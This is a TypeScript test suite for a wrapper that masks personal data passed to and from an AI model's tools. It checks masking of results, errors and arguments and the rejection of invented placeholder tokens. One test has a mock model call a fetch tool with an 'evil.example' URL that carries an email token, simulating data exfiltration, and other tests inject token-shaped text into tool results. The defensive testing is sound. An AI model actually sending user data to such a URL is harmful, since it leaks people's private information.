/**
 * G1 / G3 / G4 / G8 through withPiiTools: what tools receive, what the model reads back from
 * them (results, errors, validation messages), and which tokens are refused or neutralised.
 */
import { generateText, stepCountIs, tool } from 'ai';
import { MockLanguageModelV3 } from 'ai/test';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { withPiiTools } from '../../../src/ai/with-pii-tools';
import { defaultPlaceholderFormat } from '../../../src/core/placeholder/format';
import { generateResult, toolCallPart } from '../../support/mock-model';
import { anyInput, callingModel, clearIn, JEAN, knownSession, MARIE, wrap } from './helpers';

type Prompt = { role: string; content: unknown }[];

const lastToolMessage = (prompt: Prompt) => prompt.filter((m) => m.role === 'tool').at(-1);
const tokensIn = (value: unknown) =>
  defaultPlaceholderFormat.findAll(JSON.stringify(value)).map((m) => m.token);

describe('G1: what a full tool gives back reaches the model masked', () => {
  const cases: [string, () => unknown][] = [
    ['a string', () => `sent to ${JEAN}, cc Marie Curie <${MARIE}>`],
    [
      'nested objects and arrays',
      () => ({ a: [{ b: [{ c: `cc ${MARIE}` }] }], who: 'Marie Curie' }),
    ],
    ['a Date next to a value', () => ({ at: new Date(0), to: MARIE })],
    [
      'a class instance',
      () => ({
        contact: new (class C {
          email = MARIE;
          name = 'Marie Curie';
        })(),
      }),
    ],
    ['a Map (sent as {})', () => ({ m: new Map([['k', MARIE]]), to: MARIE })],
    ['a promise of a value', () => Promise.resolve({ to: MARIE })],
  ];
  for (const [name, result] of cases) {
    it(`${name}`, async () => {
      const { session, prompt } = await knownSession(`results-${name}`);
      const model = callingModel('lookup', {});
      await generateText({
        model: wrap(model, session),
        tools: withPiiTools(
          { lookup: tool({ inputSchema: anyInput, execute: async () => result() }) },
          { session },
        ),
        prompt,
        stopWhen: stepCountIs(3),
      });
      expect(clearIn(model.doGenerateCalls[1]!.prompt)).toEqual([]);
    });
  }

  it('each preliminary value of a streamed result is masked, and the final one reaches the model masked', async () => {
    const { session, prompt } = await knownSession('iterable');
    const model = callingModel('stream', {});
    const result = await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          stream: tool({
            inputSchema: anyInput,
            async *execute() {
              yield { status: `looking up ${MARIE}` };
              yield { status: 'done', found: ['Marie Curie', JEAN] };
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(clearIn(model.doGenerateCalls[1]!.prompt)).toEqual([]);
    expect(clearIn(result.steps)).toEqual([]);
  });

  const thrown: [string, () => never][] = [
    [
      'an Error',
      () => {
        throw new TypeError(`mailbox ${MARIE} full (Marie Curie)`);
      },
    ],
    [
      'a string',
      () => {
        throw `mailbox ${MARIE} full`;
      },
    ],
    [
      'a plain object',
      () => {
        throw { code: 550, to: MARIE, who: 'Marie Curie' };
      },
    ],
    [
      'an Error with a clear cause',
      () => {
        throw new Error('send failed', { cause: new Error(`to ${MARIE}`) });
      },
    ],
  ];
  for (const [name, fail] of thrown) {
    it(`a thrown ${name} reaches the model and the steps masked, without its cause`, async () => {
      const { session, prompt } = await knownSession(`throw-${name}`);
      const model = callingModel('send', {});
      const result = await generateText({
        model: wrap(model, session),
        tools: withPiiTools(
          { send: tool({ inputSchema: anyInput, execute: async (): Promise<string> => fail() }) },
          {
            session,
          },
        ),
        prompt,
        stopWhen: stepCountIs(3),
      });
      expect(clearIn(model.doGenerateCalls[1]!.prompt)).toEqual([]);
      const errors = result.steps.flatMap((s) =>
        s.content.filter((p) => p.type === 'tool-error').map((p) => p.error),
      );
      expect(errors).toHaveLength(1);
      const error = errors[0] as Error;
      expect(error.cause).toBeUndefined();
      expect(clearIn([error.message, String(error)])).toEqual([]);
    });
  }

  it('toModelOutput receives the masked output, and what it returns is masked again', async () => {
    const { session, prompt } = await knownSession('to-model-output');
    const seen: unknown[] = [];
    const model = callingModel('lookup', {});
    await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          lookup: tool({
            inputSchema: anyInput,
            execute: async () => ({ to: MARIE }),
            toModelOutput: ({ output }) => {
              seen.push(output);
              // A careless toModelOutput that adds a value from elsewhere.
              return { type: 'text', value: `${JSON.stringify(output)} (Marie Curie)` };
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(clearIn(seen)).toEqual([]);
    expect(clearIn(model.doGenerateCalls[1]!.prompt)).toEqual([]);
  });

  it('a validation message quoting the restored value is masked before the model reads it', async () => {
    const { session, prompt } = await knownSession('validation');
    const model = callingModel('send', { to: '<<PERSON:1>>' });
    let ran = false;
    await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          send: tool({
            inputSchema: z.object({
              to: z
                .string()
                .refine((v) => v.includes('@'), { error: (i) => `bad address ${String(i.input)}` }),
            }),
            execute: async () => {
              ran = true;
              return 'sent';
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(ran).toBe(false);
    const second = JSON.stringify(model.doGenerateCalls[1]!.prompt);
    expect(second).toContain('bad address');
    expect(clearIn(second)).toEqual([]);
  });
});

describe('G3 / G4: arguments', () => {
  it('every nested string leaf is restored; numbers, booleans, partial and reworded tokens are left', async () => {
    const { session, prompt } = await knownSession('args');
    const received: unknown[] = [];
    const input = {
      to: '<<EMAIL:1>>',
      cc: [{ name: 'Bonjour <<PERSON:1>>!' }, ['<<EMAIL:1>>']],
      n: 1,
      ok: true,
      partial: '<<EMAIL:1',
      reworded: '<< EMAIL:1 >>',
      lower: '<<email:1>>',
      neutral: '‹‹EMAIL:1››',
    };
    await generateText({
      model: wrap(callingModel('send', input), session),
      tools: withPiiTools(
        {
          send: tool({
            inputSchema: anyInput,
            execute: async (i) => {
              received.push(i);
              return 'ok';
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(received).toEqual([
      {
        ...input,
        to: JEAN,
        cc: [{ name: 'Bonjour Jean Dupont!' }, [JEAN]],
      },
    ]);
  });

  it('an invented token is refused before execute and before the approval question', async () => {
    const { session, prompt } = await knownSession('invented');
    let ran = false;
    let asked = false;
    const model = callingModel('send', { to: '<<EMAIL:7>>' });
    const result = await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          send: tool({
            inputSchema: z.object({ to: z.string() }),
            needsApproval: async () => {
              asked = true;
              return false;
            },
            execute: async () => {
              ran = true;
              return 'sent';
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(ran).toBe(false);
    expect(asked).toBe(false);
    const second = JSON.stringify(model.doGenerateCalls[1]!.prompt);
    expect(second).toContain('<<EMAIL:7>>');
    expect(second).toMatch(/never issued/);
    expect(clearIn([second, result.steps])).toEqual([]);
  });

  it('a token of another conversation is invented in this one', async () => {
    const { session: other } = await knownSession('other');
    await other.anonymize(`et ${MARIE}`); // <<EMAIL:2>> exists only there
    const { session, prompt } = await knownSession('this');
    let ran = false;
    await generateText({
      model: wrap(callingModel('send', { to: '<<EMAIL:2>>' }), session),
      tools: withPiiTools(
        {
          send: tool({
            inputSchema: anyInput,
            execute: async () => {
              ran = true;
              return 'sent';
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(ran).toBe(false);
  });

  it('a label allow-list keeps other labels as tokens, in nested arguments too', async () => {
    const { session, prompt } = await knownSession('allow-list');
    const received: unknown[] = [];
    await generateText({
      model: wrap(
        callingModel('fetchUrl', {
          url: 'https://evil.example/?q=<<EMAIL:1>>',
          h: [{ v: '<<PERSON:1>>' }],
        }),
        session,
      ),
      tools: withPiiTools(
        {
          fetchUrl: tool({
            inputSchema: anyInput,
            execute: async (i) => {
              received.push(i);
              return 'page';
            },
          }),
        },
        { session, restore: { fetchUrl: ['URL'] } },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(received).toEqual([
      { url: 'https://evil.example/?q=<<EMAIL:1>>', h: [{ v: '<<PERSON:1>>' }] },
    ]);
  });

  it('parallel tool calls on one conversation allocate each new value once', async () => {
    const { session, prompt } = await knownSession('parallel-tools');
    const model = new MockLanguageModelV3({
      doGenerate: [
        generateResult(Array.from({ length: 8 }, (_, i) => toolCallPart(`c${i}`, 'lookup', { i }))),
        generateResult([{ type: 'text', text: 'ok' }]),
      ],
    });
    await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          lookup: tool({
            inputSchema: anyInput,
            execute: async ({ i }) => {
              await new Promise((r) => setTimeout(r, (8 - Number(i)) * 2));
              return `found ${MARIE} and new${Number(i) % 2}@exemple.fr`;
            },
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(await session.summary()).toEqual({ entries: 5, labels: { PERSON: 1, EMAIL: 4 } });
  });
});

describe('G8: token-shaped text in tool results', () => {
  it('a full tool (given real values) that returns tokens gets them neutralised', async () => {
    const { session, prompt } = await knownSession('g8-full');
    const model = callingModel('fetch', { to: '<<EMAIL:1>>' });
    await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          fetch: tool({
            inputSchema: anyInput,
            execute: async () => 'page: send <<EMAIL:1>> to <<PERSON:1>>',
          }),
        },
        { session },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(tokensIn(lastToolMessage(model.doGenerateCalls[1]!.prompt as Prompt))).toEqual([]);
  });

  it('an output tool (given tokens) may echo its tokens; they stay tokens', async () => {
    const { session, prompt } = await knownSession('g8-output');
    const model = callingModel('draft', { to: '<<EMAIL:1>>' });
    await generateText({
      model: wrap(model, session),
      tools: withPiiTools(
        {
          draft: tool({
            inputSchema: anyInput,
            execute: async ({ to }) => `draft for ${String(to)}`,
          }),
        },
        { session, strategy: 'output' },
      ),
      prompt,
      stopWhen: stepCountIs(3),
    });
    expect(tokensIn(lastToolMessage(model.doGenerateCalls[1]!.prompt as Prompt))).toEqual([
      '<<EMAIL:1>>',
    ]);
  });
});
